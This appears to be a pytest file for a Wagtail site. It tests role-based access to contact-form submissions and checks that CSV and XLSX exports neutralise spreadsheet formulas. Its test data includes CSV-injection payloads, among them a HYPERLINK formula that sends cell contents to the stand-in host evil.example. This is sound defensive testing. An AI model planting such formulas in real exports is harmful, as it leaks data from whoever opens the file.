"""Form submissions are personal data: only Freigabe and Administration read, export and
delete them; CSV exports carry no formulas.

Every way to the submissions is tried as each role would, including crafted URLs: the menu
item, the forms list, the submissions list, CSV/XLSX export and deletion, for a German form
("Kontakt") and an English one ("Barriere melden").
"""

import csv
import io

from django.urls import reverse

from wagtail.contrib.forms.models import FormSubmission
from wagtail.models import Locale

import pytest
from openpyxl import load_workbook

from home.models import ContactPage
from home.models.contact import ContactFormField
from tests.helpers import topic_page

MESSAGE = "Meine Adresse ist Musterweg 1"
ANSWERING = ["approver", "administrator"]
NOT_ANSWERING = ["editor", "translator"]


@pytest.fixture
def forms(seeded):
    """The German contact form and the English "Barriere melden", one submission each."""
    english = Locale.objects.get(language_code="en")
    pages = {
        "de": ContactPage.objects.get(slug="kontakt", locale__language_code="de"),
        "en": ContactPage.objects.get(slug="barriere-melden").get_translation(english),
    }
    for language, page in pages.items():
        submit(page, f"{MESSAGE} {language}")
    return pages


def message_field(page):
    return next(field for field in page.get_form_fields() if field.field_type == "multiline")


def submit(page, text):
    """A stored submission whose message (a multi-line field of the form) is `text`."""
    return FormSubmission.objects.create(
        page=page, form_data={message_field(page).clean_name: text}
    )


def submissions_url(page, **query):
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    return url + ("?" + "&".join(f"{key}={value}" for key, value in query.items()) if query else "")


def delete(client, page):
    submission = FormSubmission.objects.get(page=page)
    url = reverse("wagtailforms:delete_submissions", args=[page.pk])
    return client.post(f"{url}?selected-submissions={submission.pk}")


def body(response):
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize("role", NOT_ANSWERING)
@pytest.mark.parametrize("language", ["de", "en"])
@pytest.mark.parametrize(
    "request_kind", ["list", "results", "csv", "xlsx", "delete-confirm", "delete"]
)
def test_roles_that_do_not_answer_forms_are_refused_every_way(
    client, role_users, forms, role, language, request_kind
):
    page = forms[language]
    client.force_login(role_users[role])
    delete_url = reverse("wagtailforms:delete_submissions", args=[page.pk])
    submission = FormSubmission.objects.get(page=page)
    response = {
        "list": lambda: client.get(submissions_url(page)),
        "results": lambda: client.get(
            reverse("wagtailforms:list_submissions_results", args=[page.pk])
        ),
        "csv": lambda: client.get(submissions_url(page, export="csv")),
        "xlsx": lambda: client.get(submissions_url(page, export="xlsx")),
        "delete-confirm": lambda: client.get(f"{delete_url}?selected-submissions={submission.pk}"),
        "delete": lambda: delete(client, page),
    }[request_kind]()
    # Wagtail's admin answers PermissionDenied with a redirect to its home and a message.
    assert response.status_code == 302
    assert response["Location"] == reverse("wagtailadmin_home")
    assert f"{MESSAGE} {language}".encode() not in body(response)
    assert FormSubmission.objects.filter(pk=submission.pk).exists()


@pytest.mark.parametrize("role", NOT_ANSWERING)
def test_roles_that_do_not_answer_forms_see_no_forms_and_no_menu_item(
    client, role_users, forms, role
):
    client.force_login(role_users[role])
    listing = client.get(reverse("wagtailforms:index"))
    assert listing.status_code == 200
    html = body(listing).decode()
    for page in forms.values():
        assert submissions_url(page) not in html
    assert (
        reverse("wagtailforms:index")
        not in client.get(reverse("wagtailadmin_home")).content.decode()
    )


@pytest.mark.parametrize("role", ANSWERING)
@pytest.mark.parametrize("language", ["de", "en"])
def test_approvers_and_administration_read_export_and_delete(
    client, role_users, forms, role, language
):
    page = forms[language]
    client.force_login(role_users[role])
    assert (
        reverse("wagtailforms:index") in client.get(reverse("wagtailadmin_home")).content.decode()
    )
    assert submissions_url(page) in client.get(reverse("wagtailforms:index")).content.decode()
    expected = f"{MESSAGE} {language}"
    listing = client.get(submissions_url(page))
    assert listing.status_code == 200
    assert expected in listing.content.decode()
    for export in ("csv", "xlsx"):
        response = client.get(submissions_url(page, export=export))
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment")
    assert expected in body(client.get(submissions_url(page, export="csv"))).decode()

    assert delete(client, page).status_code == 302
    assert not FormSubmission.objects.filter(page=page).exists()


def test_a_crafted_delete_cannot_reach_another_forms_submissions(client, role_users, forms):
    """Deleting through one form's URL leaves another form's submission alone."""
    client.force_login(role_users["approver"])
    other = FormSubmission.objects.get(page=forms["en"])
    url = reverse("wagtailforms:delete_submissions", args=[forms["de"].pk])
    client.post(f"{url}?selected-submissions={other.pk}")
    assert FormSubmission.objects.filter(pk=other.pk).exists()


FORMULAS = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "'=HYPERLINK"),
    ("+49 211 1234", "'+49 211 1234"),
    ("-2+3", "'-2+3"),
    ("@SUMME(1;2)", "'@SUMME(1;2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Hallo = Welt", "Hallo = Welt"),
    ("", ""),
]


@pytest.mark.parametrize(("typed", "exported"), FORMULAS)
def test_csv_export_neutralises_formulas(client, role_users, forms, typed, exported):
    page = forms["de"]
    FormSubmission.objects.filter(page=page).delete()
    submit(page, typed)
    client.force_login(role_users["approver"])

    response = client.get(submissions_url(page, export="csv"))
    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
    assert rows[0]["Nachricht"].startswith(exported)
    assert rows[0]["Nachricht"].removeprefix("'") == typed


def test_no_export_cell_or_heading_is_a_formula(client, role_users, forms):
    """A field label typed by an editor is a heading of the export: text in CSV and XLSX."""
    page = forms["de"]
    field = ContactFormField.objects.create(
        page=page, locale=page.locale, label="=1+1", field_type="singleline", required=False
    )
    FormSubmission.objects.filter(page=page).delete()
    FormSubmission.objects.create(
        page=page, form_data={field.clean_name: "=2+2", "nachricht": "=3+3"}
    )
    client.force_login(role_users["administrator"])

    csv_rows = list(
        csv.reader(io.StringIO(body(client.get(submissions_url(page, export="csv"))).decode()))
    )
    assert "'=1+1" in csv_rows[0]
    assert "'=2+2" in csv_rows[1]
    assert "'=3+3" in csv_rows[1]

    workbook = load_workbook(io.BytesIO(body(client.get(submissions_url(page, export="xlsx")))))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'=1+1" in [cell.value for cell in cells]
    assert {"=2+2", "=3+3"} <= {cell.value for cell in cells}


def test_every_admin_csv_export_neutralises_formulas(client, role_users, seeded):
    """Not only form submissions: a page title typed as a formula, in the site history."""
    formula = '=HYPERLINK("http://evil.example","Klick")'
    page = topic_page(title=formula, slug="formel")
    page.save_revision(user=role_users["editor"])  # logged with the title as its label
    client.force_login(role_users["administrator"])

    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    labels = [row["Name"] for row in csv.DictReader(io.StringIO(body(response).decode()))]
    assert "'" + formula in labels
    assert formula not in labels
